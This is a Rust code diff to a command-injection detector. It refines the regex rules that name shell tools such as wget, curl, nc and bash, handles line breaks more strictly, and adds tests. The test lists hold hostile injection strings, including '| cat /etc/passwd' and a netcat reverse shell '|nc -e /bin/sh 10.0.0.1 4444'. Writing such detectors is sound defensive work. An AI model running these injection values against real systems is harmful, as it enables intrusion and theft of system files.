@@ -7,9 +7,9 @@
 //! English words (`cat`, `more`, `find`) always need that argument shape;
 //! words that are only commands (`whoami`, `wget`) may end the value.
 
-use regex::Regex;
+use regex::bytes::Regex;
 
-use super::rules::Hit;
+use super::rules::{compile, Hit};
 use super::targets::Target;
 
 /// Programs whose names are not everyday words.
@@ -20,7 +20,7 @@ const STRONG: &str = "whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|
 const WEAK: &str = "cat|more|less|find|sort|head|tail|kill|who|last|type|dir|ping|echo|touch|date|time|wc|cut|env|export|exec|eval|grep|awk|sed|tee|dd|tar|cp|mv|mkdir|ps|xargs|timeout|sleep|net|reg|start|print|copy|del|set|uniq|file|stat|strings|od|nl|rev|tac|printf|which|whereis|dig|host|traceroute|tracert";
 
 /// What may follow a command for it to read as a command line.
-const ARGS: &str = r#"(?:\s+(?:-{1,2}[a-z0-9]|/|\.{1,2}/|~|\$|\\|['"`]|\d|[a-z]+://|[\w.-]+\.[a-z]{2,4}\b|\*|[<>|;&])|\s*[<>|;&`)]|\$\{?ifs)"#;
+const ARGS: &str = r#"(?:\s+(?:-{1,2}[a-z0-9]|/|[a-z]:[\\/]|\.{1,2}/|~|\$|\\|['"`]|\d|[a-z]+://|[\w.-]+\.[a-z]{2,4}\b|\*|[<>|;&])|\s*[<>|;&`)]|\$\{?ifs)"#;
 
 pub struct Cmdi {
     rules: Vec<(u32, Regex)>,
@@ -29,12 +29,18 @@ pub struct Cmdi {
 impl Cmdi {
     pub fn new() -> Result<Cmdi, regex::Error> {
         let bin_prefix = r"(?:(?:/usr)?(?:/local)?/s?bin/)?";
-        let sep = r"(?:[;|&\n\r]|\$\(|\$\{ifs\}|\$ifs)";
+        let sep = r"(?:[;|&]|\$\(|\$\{ifs\}|\$ifs)";
+        // A line break separates commands too, but multi-line text (code,
+        // tracebacks, addresses) starts lines with words like `file` or
+        // `type`: after a line break only option, path or variable
+        // arguments count.
+        let strict = r"(?:\s+(?:-{1,2}[a-z0-9]|/|\$|~)|[ \t]*[<>|;&`])";
+        let eol = r"[ \t]*(?:$|[\n\r])";
         let rules = [
             (
                 5001,
                 format!(
-                    r#"{sep}\s*['"]?\s*{bin_prefix}(?:(?:{STRONG})(?:\.exe)?(?:{ARGS}|\s*$)|(?:{WEAK})(?:\.exe)?{ARGS})"#
+                    r#"{sep}\s*['"]?\s*{bin_prefix}(?:(?:{STRONG})(?:\.exe)?(?:{ARGS}|{eol})|(?:{WEAK})(?:\.exe)?{ARGS})|(?:[\n\r]|\\[nr])\s*{bin_prefix}(?:(?:{STRONG})(?:\.exe)?(?:{strict}|{eol})|(?:{WEAK})(?:\.exe)?{strict})"#
                 ),
             ),
             (
@@ -65,7 +71,7 @@ impl Cmdi {
         ];
         let rules = rules
             .into_iter()
-            .map(|(id, re)| Ok((id, Regex::new(&re)?)))
+            .map(|(id, re)| Ok((id, compile(&re)?)))
             .collect::<Result<_, regex::Error>>()?;
         Ok(Cmdi { rules })
     }
@@ -78,7 +84,7 @@ impl Cmdi {
         }
         let same_offsets = lower.len() == t.value.text.len();
         for (id, re) in &self.rules {
-            if let Some(m) = re.find(lower) {
+            if let Some(m) = re.find(lower.as_bytes()) {
                 let at = if same_offsets {
                     m.range()
                 } else {
@@ -114,6 +120,8 @@ mod tests {
             "127.0.0.1 | cat /etc/passwd",
             "x && whoami",
             "a%0Aid",
+            "\\n/usr/bin/id|",
+            "&& dir C:\\Users",
             "; ping -c 10 127.0.0.1",
             "|nc -e /bin/sh 10.0.0.1 4444",
             ";sleep${IFS}5",
@@ -143,6 +151,8 @@ mod tests {
             "$(document).ready(function () { init(); });",
             "https://shop.example/list?page=2&cat=shoes&sort=price",
             "AT&T | Verizon | T-Mobile",
+            "Traceback (most recent call last):\n  File \"app.py\", line 3",
+            "Dear Ann,\ntime flies; see you soon",
         ] {
             assert!(ids(text).is_empty(), "{text}: {:?}", ids(text));
         }
